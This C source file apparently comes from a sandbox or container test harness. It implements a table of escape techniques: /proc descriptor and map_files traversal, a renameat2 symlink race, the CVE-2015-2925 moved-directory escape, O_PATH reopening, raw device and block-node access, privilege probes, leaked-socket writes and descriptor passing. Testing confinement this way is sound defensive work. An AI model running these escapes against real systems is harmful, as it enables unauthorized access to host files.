/* More routes to the host's files: through /proc, races, moved directories, descriptors that came along. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

#define EXCHANGE 2
#define LIFE_S   20 /* whatever is left behind ends by itself */

/* Calls `try` with every /proc/PID/FOLDER/ENTRY in sight, until one gets through. */
static int each_entry(const char *folder, const char *rest, int (*try)(const char *path))
{
	DIR *proc = opendir("/proc");
	const struct dirent *process, *entry;
	int last = -ENOENT;

	if (!proc)
		return -errno;
	while (last < 0 && (process = readdir(proc))) {
		char path[4096];
		DIR *dir;

		if (process->d_name[0] < '1' || process->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/%s", process->d_name, folder);
		dir = opendir(path);
		while (last < 0 && dir && (entry = readdir(dir))) {
			if (entry->d_name[0] == '.')
				continue;
			snprintf(path, sizeof(path), "/proc/%s/%s/%s%s", process->d_name, folder,
				 entry->d_name, rest);
			last = try(path);
		}
		if (dir)
			closedir(dir);
	}
	closedir(proc);
	return last;
}

static int try_read(const char *path)
{
	return attack_read(open(path, O_RDONLY | O_NONBLOCK));
}

/* NAME: beneath a directory that any process in sight holds open */
static int read_proc_fd(char **args)
{
	char rest[256];

	snprintf(rest, sizeof(rest), "/%s", args[0]);
	return each_entry("fd", rest, try_read);
}

static int try_open(const char *path)
{
	return attack_result(open(path, O_RDONLY));
}

/* Any file that any process in sight has mapped */
static int open_mapped(char **args)
{
	(void)args;
	return each_entry("map_files", "", try_open);
}

/* DIRECTORY: a name that is now a directory of ours, now a link to DIRECTORY, while it is read */
static int read_race(char **args)
{
	int code = -ENOENT;
	pid_t pid;

	mkdir("swapped", 0755);
	close(open("swapped/canary", O_WRONLY | O_CREAT, 0644));
	if (symlink(args[0], "swapped-link") < 0)
		return -errno;
	pid = fork();
	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		for (;;)
			syscall(SYS_renameat2, AT_FDCWD, "swapped", AT_FDCWD, "swapped-link",
				EXCHANGE);
	}
	for (clock_t end = clock() + CLOCKS_PER_SEC / 3; code < 0 && clock() < end;)
		code = attack_read(open("swapped/canary", O_RDONLY)) == 0 ? 0 : -ENOENT;
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return code;
}

/* No attack: PATH OTHER, exchanged for LIFE_S, for a race that somebody else runs */
static int swap(char **args)
{
	alarm(LIFE_S);
	while (syscall(SYS_renameat2, AT_FDCWD, args[0], AT_FDCWD, args[1], EXCHANGE) == 0)
		;
	return -errno;
}

/*
 * INNER OUTER PATH: stands in a directory of INNER, moves it out of there by OUTER, which shows the same
 * tree one level higher, and goes up from where it now is (CVE-2015-2925).
 */
static int read_moved(char **args)
{
	char from[4096], to[4096];

	snprintf(from, sizeof(from), "%s/inner/moved", args[1]);
	snprintf(to, sizeof(to), "%s/moved", args[1]);
	if (chdir(args[0]) < 0 || (mkdir("moved", 0755) < 0 && errno != EEXIST) ||
	    chdir("moved") < 0 || rename(from, to) < 0)
		return -errno;
	return attack_read(open(args[2], O_RDONLY));
}

/* DIRECTORY NAME: stands there */
static int read_beneath(char **args)
{
	return chdir(args[0]) < 0 ? -errno : attack_read(open(args[1], O_RDONLY));
}

/* PATH: first for its name only, then once more by the descriptor's name */
static int read_reopened(char **args)
{
	int fd = open(args[0], O_PATH | O_CLOEXEC);
	char path[64];

	if (fd < 0)
		return -errno;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return attack_read(open(path, O_RDONLY));
}

/* PATH... : devices, opened for reading */
static int open_devices(char **args)
{
	int last = -ENOENT;

	for (; *args && last < 0; args++) {
		last = attack_result(open(*args, O_RDONLY | O_NONBLOCK | O_NOCTTY));
		if (last == 0)
			attack_loot(*args);
	}
	return last;
}

/* DIRECTORY: a node of the disk with this number there */
static int block_node(char **args)
{
	char path[4096];

	snprintf(path, sizeof(path), "%s/planted-disk", args[0]);
	return attack_result(mknod(path, S_IFBLK | 0600, makedev(7, 0)));
}

/* PROGRAM: whether it gives us an id, or a capability, that we have not */
static int run_privileged(char **args)
{
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		execl(args[0], args[0], "be-privileged", NULL);
		_exit(errno);
	}
	if (pid < 0 || waitpid(pid, &status, 0) != pid)
		return -errno;
	if (WIFSIGNALED(status))
		return 0;
	return WEXITSTATUS(status) ? -WEXITSTATUS(status) : -EPERM;
}

/* No attack: what run-privileged starts.  If it is root or has a capability, it ends its starter. */
static int be_privileged(char **args)
{
	uint32_t head[2] = { 0x20080522, 0 }, sets[6] = { 0 };

	(void)args;
	if (syscall(SYS_capget, head, sets) < 0)
		return -errno;
	if (geteuid() == 0 || sets[0] || sets[1] || sets[3] || sets[4])
		kill(attack_main, SIGKILL);
	_exit(0);
}

/* By any socket that the caller left open */
static int send_leaked(char **args)
{
	(void)args;
	for (int fd = 3; fd < 256; fd++)
		if (send(fd, "overwritten", 11, MSG_NOSIGNAL | MSG_DONTWAIT) == 11)
			return 0;
	return -EBADF;
}

/* SOCKET NAME: is given a directory by whoever listens there, and reads NAME in it */
static int receive_directory(char **args)
{
	struct sockaddr_un to = { .sun_family = AF_UNIX };
	char byte, space[CMSG_SPACE(sizeof(int))] = "";
	struct iovec vector = { &byte, 1 };
	struct msghdr message = { .msg_iov = &vector,
				  .msg_iovlen = 1,
				  .msg_control = space,
				  .msg_controllen = sizeof(space) };
	const struct cmsghdr *head;
	int sock = socket(AF_UNIX, SOCK_STREAM, 0), fd;

	snprintf(to.sun_path, sizeof(to.sun_path), "%s", args[0]);
	if (sock < 0 || connect(sock, (const struct sockaddr *)&to, sizeof(to)) < 0 ||
	    recvmsg(sock, &message, 0) < 0)
		return -errno;
	head = CMSG_FIRSTHDR(&message);
	if (!head)
		return -ENODATA;
	memcpy(&fd, CMSG_DATA(head), sizeof(fd));
	return attack_read(openat(fd, args[1], O_RDONLY));
}

/* PATH: another file in the place of this one */
static int replace(char **args)
{
	char fresh[4096];
	int fd;

	snprintf(fresh, sizeof(fresh), "%s.new", args[0]);
	fd = open(fresh, O_WRONLY | O_CREAT | O_EXCL, 0755);
	if (fd < 0 || write(fd, "overwritten", 11) < 0)
		return -errno;
	close(fd);
	return attack_result(rename(fresh, args[0]));
}

const struct attack attack_routes[] = {
	{ "read-proc-fd", read_proc_fd },
	{ "open-mapped", open_mapped },
	{ "read-race", read_race },
	{ "swap", swap },
	{ "read-moved", read_moved },
	{ "read-beneath", read_beneath },
	{ "read-reopened", read_reopened },
	{ "open-devices", open_devices },
	{ "block-node", block_node },
	{ "run-privileged", run_privileged },
	{ "be-privileged", be_privileged },
	{ "send-leaked", send_leaked },
	{ "receive-directory", receive_directory },
	{ "replace", replace },
	{ NULL, NULL },
};
